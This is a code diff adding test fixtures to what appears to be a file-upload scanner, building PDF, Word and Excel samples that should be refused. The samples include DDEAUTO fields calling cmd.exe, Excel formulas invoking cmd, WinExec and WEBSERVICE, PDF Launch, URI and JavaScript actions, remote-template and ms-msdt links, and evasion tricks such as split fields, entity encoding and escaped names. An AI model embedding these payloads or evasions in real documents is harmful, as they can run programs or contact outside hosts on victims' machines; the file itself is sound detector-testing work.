@@ -1,9 +1,39 @@
-import { deflateRawSync } from 'node:zlib'
+import { deflateRawSync, deflateSync } from 'node:zlib'
 import sharp from 'sharp'
 import type { UploadReason } from '../refused.ts'
 import { makeCompound } from './make-compound.ts'
 import { makeZip } from './make-zip.ts'
 import { office, officeParts, oldExcel, oldWord, outside, pdf, picture, swollenPng } from './samples.ts'
+
+/** A field of a Word document, said in one run or several. */
+export const field = (...said: readonly string[]) =>
+  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${said
+    .map((one) => `<w:r><w:instrText xml:space="preserve">${one}</w:instrText></w:r>`)
+    .join(
+      '',
+    )}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
+
+const withWord = (xml: string) => office('docx', [{ name: 'word/header1.xml', content: xml }])
+
+const withSheet = (xml: string) =>
+  office('xlsx', [{ name: 'xl/worksheets/sheet1.xml', content: `<worksheet>${xml}</worksheet>` }])
+
+const withLink = (link: string) =>
+  office('docx', [{ name: 'word/_rels/header1.xml.rels', content: `<Relationships>${link}</Relationships>` }])
+
+const wide = (text: string) => Buffer.from(text, 'utf16le')
+
+/** An object stream, as programs pack objects since PDF 1.5. */
+const objectStream = (
+  objects: string,
+  dictionary = '/Filter/FlateDecode',
+  pack: (objects: Buffer) => Buffer = (objects) => deflateSync(objects),
+) =>
+  pdf('', '\n', [
+    Buffer.from(`9 0 obj\n<</Type/ObjStm/N 1/First 4${dictionary}>>\nstream\n`),
+    pack(Buffer.from(objects)),
+    Buffer.from('\nendstream\nendobj\n'),
+  ])
 
 const macro = Buffer.from('Attribute VB_Name = "AutoOpen"')
 /** A Java archive, which programs find from its end. */
@@ -60,6 +90,60 @@ export const attacks: readonly Attack[] = [
   ['a PDF with a file in it', 'activeContent', () => pdf('/Names<</EmbeddedFiles 3 0 R>>')],
   ['a PDF that sends a form', 'activeContent', () => pdf('/AA<</O<</S/SubmitForm>>>>')],
   ['a locked PDF', 'encrypted', () => pdf('/Encrypt 4 0 R')],
+  ['a locked PDF that writes so with an escape', 'encrypted', () => pdf('/#45ncrypt 4 0 R')],
+  [
+    'a PDF that opens another',
+    'activeContent',
+    () => pdf('/OpenAction<</S/GoToR/F(\\\\\\\\h\\\\s)/D[0/Fit]>>'),
+  ],
+  ['a PDF with a link to another', 'activeContent', () => pdf('/A<</S/Go#54oR/F(x.pdf)>>')],
+  ['a PDF that opens a page of the web', 'activeContent', () => pdf('/OpenAction<</S/URI/URI(https://x)>>')],
+  [
+    'a PDF that opens a page of the web, said elsewhere',
+    'activeContent',
+    () => pdf('/OpenAction 7 0 R>>\nendobj\n7 0 obj\n<</Type/Action/S/URI/URI(https://x)'),
+  ],
+  ['a PDF whose pages do something', 'activeContent', () => pdf('/AA<</O<</S/URI/URI(https://x)>>>>')],
+  ['a PDF with a form that is a program', 'activeContent', () => pdf('/AcroForm<</XFA[(a) 5 0 R]>>')],
+  ['a PDF with a field’s script', 'activeContent', () => pdf('/K<</JS(app.alert\\(1\\))>>')],
+  ['a PDF with a film', 'activeContent', () => pdf('/A<</S/Rendition/R 4 0 R>>')],
+  ['a PDF whose stream lies in another file', 'activeContent', () => pdf('/F(x)/FFilter/FlateDecode')],
+  [
+    'a PDF with a script in an object stream',
+    'activeContent',
+    () => objectStream('5 0 <</S/JavaScript/JS(app.alert(1))>>'),
+  ],
+  [
+    'a PDF with an escaped action in an object stream',
+    'activeContent',
+    () => objectStream('5 0 <</#41A<</O<</S/URI/URI(https://x)>>>>>>'),
+  ],
+  [
+    'a PDF with an object stream packed twice',
+    'activeContent',
+    () =>
+      objectStream('5 0 <</S/Launch>>', '/Filter[/FlateDecode/FlateDecode]', (b) =>
+        deflateSync(deflateSync(b)),
+      ),
+  ],
+  [
+    'a PDF with an object stream that breaks off',
+    'activeContent',
+    () =>
+      objectStream(`5 0 <</S/Launch>>${'x'.repeat(90)}`, '', (b) =>
+        Buffer.concat([deflateSync(b).subarray(0, -9), Buffer.alloc(9, 0xff)]),
+      ),
+  ],
+  [
+    'a PDF with an object stream packed so that few programs can read it',
+    'activeContent',
+    () => objectStream('5 0 <</S/Launch>>', '/Filter/ASCIIHexDecode', (b) => Buffer.from(b.toString('hex'))),
+  ],
+  [
+    'a PDF with an object in a stream that is not packed',
+    'activeContent',
+    () => pdf('/Length 9>>stream\n6 0 obj<</AA<</O 4 0 R>>>>endobj\nendstream<<'),
+  ],
 
   ['a Java archive', 'notAccepted', () => jar],
   ['a plain ZIP', 'notAccepted', () => makeZip([{ name: 'list.txt', content: 'Twelve bottles' }])],
@@ -223,6 +307,158 @@ export const attacks: readonly Attack[] = [
       ]),
   ],
 
+  ...(
+    [
+      ['asks a program', [' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ']],
+      ['asks a program, in pieces', ['DD', 'EAU', 'TO cmd']],
+      ['asks a program, in disguise', ['&#68;DE cmd']],
+      ['asks a program, with a comment', ['DDE<!-- -->AUTO cmd']],
+      ['loads a picture', [' INCLUDEPICTURE "https://elsewhere.example/x.png" \\d ']],
+      ['loads a text', [' INCLUDETEXT "\\\\\\\\elsewhere\\\\share\\\\x.docx" ']],
+      ['links an object', [' LINK Excel.Sheet.8 "c:\\\\x.xls" ']],
+      ['builds its name', [' QUOTE 68 68 69 ']],
+    ] as const
+  ).map(
+    ([about, said]): Attack => [
+      `a document with a field that ${about}`,
+      'activeContent',
+      () => withWord(field(...said)),
+    ],
+  ),
+  [
+    'a document with a field whose name is another field',
+    'activeContent',
+    () => withWord(field('PAGE').replace('PAGE</w:instrText>', `</w:instrText>${field('SET x DDE')}`)),
+  ],
+  [
+    'a document with a simple field that asks a program',
+    'activeContent',
+    () => withWord('<w:fldSimple w:dirty="true" w:instr="DDEAUTO cmd"><w:r/></w:fldSimple>'),
+  ],
+  [
+    'a document in UTF-16',
+    'activeContent',
+    () => office('docx', [{ name: 'word/header1.xml', content: wide('\ufeff<x/>') }]),
+  ],
+  [
+    'a document that says it is in UTF-7',
+    'activeContent',
+    () => withWord('<?xml version="1.0" encoding="UTF-7"?><x>+ADw-</x>'),
+  ],
+  [
+    'a document that takes in a page',
+    'activeContent',
+    () => withLink('<Relationship Id="r" Type="x/aFChunk" Target="page.html"/>'),
+  ],
+  [
+    'a document with a page in it',
+    'activeContent',
+    () => office('docx', [{ name: 'word/page.html', content: html }]),
+  ],
+  [
+    'a document that loads a picture without saying that it lies outside',
+    'activeContent',
+    () => withLink('<Relationship Id="r" Type="x/image" Target="https://elsewhere.example/x.png"/>'),
+  ],
+  [
+    'a document with a link to another computer',
+    'activeContent',
+    () =>
+      withLink(
+        '<Relationship Id="r" Type="x/hyperlink" Target="\\\\elsewhere\\share\\x.docx" TargetMode="External"/>',
+      ),
+  ],
+  [
+    'a document with a link to a program',
+    'activeContent',
+    () => withLink('<Relationship Id="r" Type="x/hyperlink" Target="ms-msdt:/id" TargetMode="External"/>'),
+  ],
+  ['a document with a picture that is linked', 'activeContent', () => withWord('<a:blip r:link="rId5"/>')],
+  [
+    'a document with an old picture from elsewhere',
+    'activeContent',
+    () => withWord('<v:imagedata src="\\\\elsewhere\\x.png"/>'),
+  ],
+  [
+    'a document that merges letters from a database',
+    'activeContent',
+    () => withWord('<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge>'),
+  ],
+  [
+    'a document with another that is not what it says',
+    'corrupt',
+    () => office('docx', [{ name: 'word/embeddings/a.xlsx', content: 'PK' }]),
+  ],
+  [
+    'a document with another that has macros',
+    'activeContent',
+    () =>
+      office('docx', [
+        {
+          name: 'word/embeddings/a.xlsx',
+          content: office('xlsx', [{ name: 'xl/vbaProject.bin', content: macro }]),
+        },
+      ]),
+  ],
+  ...(
+    [
+      ['fetches a page', '<c><f>_xlfn.WEBSERVICE("https://x/"&amp;A1)</f></c>'],
+      ['fetches a page, in disguise', '<c><f>WEB&#83;ERVICE("https://x")</f></c>'],
+      ['fetches a page, with a comment', '<c><f>WEB<!-- -->SERVICE("https://x")</f></c>'],
+      ['fetches a page, in a condition', '<x14:formula1><xm:f>webservice (A1)</xm:f></x14:formula1>'],
+      ['fetches a page, in a name', '<definedName name="a">_xlfn.WEBSERVICE("https://x")</definedName>'],
+      ['fetches a picture', '<c><f>_xlfn.IMAGE("https://x")</f></c>'],
+      ['asks a program', "<c><f>cmd|'/c calc'!A1</f></c>"],
+      ['asks a server', '<c><f>RTD("x",,"y")</f></c>'],
+      ['calls a library', '<c><f>CALL("kernel32","WinExec","JCJ","calc",0)</f></c>'],
+      ['reads a workbook elsewhere', "<c><f>'https://x/[a.xlsx]S'!A1</f></c>"],
+    ] as const
+  ).map(
+    ([about, xml]): Attack => [
+      `a workbook with a formula that ${about}`,
+      'activeContent',
+      () => withSheet(xml),
+    ],
+  ),
+  [
+    'a workbook with a connection',
+    'activeContent',
+    () => office('xlsx', [{ name: 'xl/connections.xml', content: '<connections/>' }]),
+  ],
+
+  [
+    'an old document with a field that asks a program',
+    'activeContent',
+    () => oldWord([], { text: '\u0013 DDEAUTO cmd \u0014\u0015' }),
+  ],
+  [
+    'an old document with a field in two bytes a character',
+    'activeContent',
+    () => oldWord([], { text: wide('\u0013INCLUDEPICTURE "https://x"\u0014\u0015') }),
+  ],
+  [
+    'an old document with a field in pieces',
+    'activeContent',
+    () => oldWord([], { text: '\u0013DD|EAUTO cmd|\u0014\u0015', pieces: true }),
+  ],
+  [
+    'an old document that loads its template',
+    'activeContent',
+    () => oldWord([], { template: 'https://elsewhere.example/x.dot' }),
+  ],
+  [
+    'an old document with an object',
+    'activeContent',
+    () => oldWord([{ name: 'ObjectPool' }, { name: '\u0003ObjInfo', content: Buffer.alloc(5000) }]),
+  ],
+  [
+    'two old documents in one',
+    'polyglot',
+    () => oldWord([{ name: 'WordDocument', content: Buffer.alloc(5000) }]),
+  ],
+  ['an old workbook that asks others', 'activeContent', () => oldExcel([], { books: 'other.xls' })],
+  ['an old workbook that fetches a page', 'activeContent', () => oldExcel([], { named: '_xlfn.WEBSERVICE' })],
+
   ['a compound file that breaks off', 'corrupt', () => oldWord().subarray(0, 400)],
   ['a compound file without an end to its chain', 'corrupt', () => endless()],
   [
@@ -249,7 +485,7 @@ export const attacks: readonly Attack[] = [
     'activeContent',
     () => oldWord([{ name: '\u0001Ole10Native', content: exe }]),
   ],
-  ['an old document that is locked', 'encrypted', () => oldWord([], 0x0100)],
+  ['an old document that is locked', 'encrypted', () => oldWord([], { flags: 0x0100 })],
   ['an old workbook that is locked', 'encrypted', () => oldExcel([], { locked: true })],
   [
     'a locked document of the new kind',
